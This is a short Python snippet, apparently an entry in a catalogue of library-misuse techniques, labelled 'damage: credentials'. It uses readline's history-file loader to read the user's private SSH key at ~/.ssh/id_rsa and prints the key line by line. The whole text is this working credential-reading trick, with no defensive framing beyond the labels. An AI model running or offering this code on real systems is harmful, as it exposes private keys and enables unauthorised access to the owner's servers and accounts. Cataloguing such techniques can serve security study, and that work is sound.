# Read by the line editor, from C.
# damage: credentials
# needs: linux, readline
import os
import readline

readline.read_history_file(os.path.expanduser("~/.ssh/id_rsa"))
for number in range(readline.get_current_history_length()):
    print(readline.get_history_item(number + 1))
